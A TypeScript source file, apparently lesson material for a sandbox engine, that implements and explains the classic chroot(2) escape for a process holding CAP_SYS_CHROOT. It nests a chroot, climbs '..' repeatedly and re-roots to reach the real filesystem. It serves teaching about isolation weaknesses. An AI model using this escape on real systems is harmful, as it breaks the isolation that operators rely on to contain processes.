import { mkdirSync, readdirSync } from 'node:fs';
import { chroot } from './pivot-root.ts';

/**
 * The classic way out of chroot(2), for a process with CAP_SYS_CHROOT: what `/` then holds. The kernel stops `..` at the root
 * directory and nowhere else. A second chroot, below, moves the root past the working directory: that is now outside, and no
 * `..` on the way up meets the root any more.
 *
 * Here to be tried in the lesson: the engine never calls it.
 * @returns the names in the directory that ends up as the root
 */
export function escapeFromChroot(): string[] {
  //#region escape
  mkdirSync('/tmp/jail', { recursive: true });
  chroot('/tmp/jail'); // the root is below; the working directory stayed where it was
  for (let i = 0; i < 64; i++) process.chdir('..');
  chroot('.');
  //#endregion
  return readdirSync('/').sort();
}
